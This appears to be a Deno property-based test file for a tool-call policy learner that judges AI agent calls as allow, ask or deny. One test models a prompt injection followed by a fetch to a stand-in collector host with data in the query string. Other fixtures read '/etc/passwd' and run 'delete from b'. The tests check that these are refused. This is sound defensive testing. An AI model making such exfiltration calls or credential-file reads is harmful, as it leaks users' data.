import { assert, assertEquals } from "@std/assert";
import fc from "fast-check";
import { PACKS } from "../packs/packs.ts";
import type { CallLine, Fact, ObservedSession } from "./observation.ts";
import { call, session } from "./profile_fixture.ts";
import { learn, policyOf } from "./proposal.ts";
import { replayable } from "./replay_call.ts";
import { newReplayJudge } from "./replay_judge.ts";

async function judgeOf(sessions: readonly ObservedSession[]) {
  const proposal = await learn(sessions, PACKS);
  const judge = await newReplayJudge(JSON.stringify(policyOf(proposal)), proposal.world);
  const verdict = (tool: string, args: object) => {
    const [replay] = replayable([session("x", [call(tool, args)])]);
    assert(replay !== undefined);
    return judge(replay).action;
  };
  return { proposal, judge, verdict };
}

/** Values of every kind, from a few that come again and many that do not. */
const VALUE = fc.oneof(
  fc.constantFrom(
    "a",
    "b",
    "two words",
    "${PROJECT_DIR}/src/a.ts",
    "${PROJECT_DIR}/b",
    "/etc/hosts",
    "https://a.example/x",
  ),
  fc.constantFrom(
    "git status",
    "ls -la src",
    "select a from b",
    "delete from b",
    "demo://item/1",
    "a\nb",
    "",
    "${HOME}/x",
  ),
  fc.string({ maxLength: 20 }),
  fc.integer({ min: -1000, max: 1000 }),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.boolean(),
  fc.constant(null),
);
const NAME = fc.constantFrom("path", "command", "sql", "note", "size", "/odd", "*", "@path", "a b", "uri", "__proto__");
const OBJECT = fc.dictionary(NAME, fc.oneof(VALUE, fc.array(VALUE, { maxLength: 3 })), { maxKeys: 4 });
const ARGS = fc.dictionary(
  NAME,
  fc.oneof(VALUE, fc.array(VALUE, { maxLength: 3 }), OBJECT, fc.array(OBJECT, { maxLength: 2 })),
  { maxKeys: 4 },
);
const CALLS = fc.array(fc.tuple(fc.constantFrom("read", "run", "sqlite_query", "sqlite-query"), ARGS, fc.boolean()), {
  maxLength: 6,
});

function taintAll(fact: Fact): Fact {
  switch (fact.t) {
    case "string":
      return { ...fact, taint: "read" };
    case "array":
      return { ...fact, i: fact.i.map(taintAll) };
    case "object":
      return {
        t: "object",
        m: Object.fromEntries(Object.entries(fact.m).map(([key, inner]) => [key, taintAll(inner)])),
      };
    default:
      return fact;
  }
}

Deno.test("a learned policy denies nothing of the sessions it was learned from", async () => {
  await fc.assert(
    fc.asyncProperty(fc.array(CALLS, { minLength: 1, maxLength: 4 }), async (plans) => {
      const sessions = plans.map((calls, index) =>
        session(
          `${index}`,
          calls.map(([tool, args, isTainted]): CallLine => {
            const line = call(tool, args);
            return isTainted && line.args !== undefined ? { ...line, args: taintAll(line.args) } : line;
          }),
        )
      );
      const { judge, proposal } = await judgeOf(sessions);
      for (const seen of proposal.seen) {
        const { action, rule, pointer } = judge(seen);
        // What the baseline refuses never comes to be observed as passed.
        const isBaseline = !rule.includes("/") && !/^(?:ask|deny)-/.test(rule);
        assert(action !== "deny" || isBaseline, `${JSON.stringify(seen)} ${rule} ${pointer}`);
      }
    }),
    { numRuns: 80, endOnFailure: true },
  );
});

Deno.test("it refuses tools and arguments that were never seen, and other values of what is settled", async () => {
  const calls = [
    call("read", { path: "${PROJECT_DIR}/a", size: 5 }),
    call("read", { path: "${PROJECT_DIR}/a", size: 5 }),
  ];
  const { verdict } = await judgeOf([session("a", calls), session("b", calls)]);
  const project = "${PROJECT_DIR}/a";
  assertEquals(verdict("write", {}), "deny");
  assertEquals(verdict("read", { path: project, size: 5, force: true }), "deny");
  assertEquals(verdict("read", { path: "/etc/passwd", size: 5 }), "deny");
  assertEquals(verdict("read", { size: 5 }), "deny");
  assertEquals(verdict("read", { path: project, size: 5 }), "allow");
});

Deno.test("thin evidence asks: too few calls, or one session", async () => {
  const one = call("read", { path: "${PROJECT_DIR}/a" });
  assertEquals(
    (await judgeOf([session("a", [one, one, one, one])])).verdict("read", { path: "${PROJECT_DIR}/a" }),
    "ask",
  );
  const two = await judgeOf([session("a", [one]), session("b", [one])]);
  assertEquals(two.verdict("read", { path: "${PROJECT_DIR}/a" }), "ask");
  const three = await judgeOf([session("a", [one, one]), session("b", [one])]);
  assertEquals(three.verdict("read", { path: "${PROJECT_DIR}/a" }), "allow");
});

Deno.test("an argument that few calls had asks where it is, and not where it is not", async () => {
  const plain = call("read", { size: 5 });
  const rare = call("read", { size: 5, mode: "raw" });
  const { verdict } = await judgeOf([session("a", [plain, plain]), session("b", [plain, rare])]);
  assertEquals(verdict("read", { size: 5, mode: "raw" }), "ask");
  assertEquals(verdict("read", { size: 5 }), "allow");
});

Deno.test("what came after an injection does not end up in the policy; a tainted address at most asks", async () => {
  const good = call("fetch", { url: "https://good-site.org/a" });
  const attack = call("fetch", { url: "https://evil-collector.net/?d=x" });
  const apart = { ...attack, apart: "after an injection" } as const;
  const safe = await judgeOf([session("a", [good, good, apart, apart]), session("b", [good, apart, apart])]);
  assertEquals(safe.verdict("fetch", { url: "https://evil-collector.net/?d=x" }), "deny");
  assertEquals(JSON.stringify(policyOf(safe.proposal)).includes("evil"), false);
  const tainted = { ...attack, args: taintAll(attack.args ?? { t: "null" }) };
  const asks = await judgeOf([session("a", [good, good, tainted]), session("b", [good, tainted])]);
  assertEquals(asks.verdict("fetch", { url: "https://evil-collector.net/?d=x" }), "ask");
  assertEquals(JSON.stringify(policyOf(asks.proposal)).includes("evil"), false);
  assertEquals(asks.verdict("fetch", { url: "https://good-site.org/b" }), "allow");
});

Deno.test("a name that a policy would read as a pattern gets no entry", async () => {
  const calls = ["*", "read_*", "{a,b}"].map((tool) => call(tool, {}));
  const { proposal, verdict } = await judgeOf([session("a", [...calls, ...calls]), session("b", calls)]);
  assertEquals([proposal.unnamed, policyOf(proposal).tools], [["*", "read_*", "{a,b}"], Object.create(null)]);
  assertEquals(verdict("anything", {}), "deny");
});

Deno.test("what the server asks for by itself asks, however often it was", async () => {
  const wish: CallLine = {
    kind: "call",
    side: "server",
    method: "sampling/createMessage",
    args: { t: "object", m: {} },
  };
  const { judge, proposal } = await judgeOf(["a", "b", "c"].map((name) => session(name, [wish, wish, wish])));
  assertEquals(proposal.seen.map((seen) => judge(seen).action), ["ask"]);
});
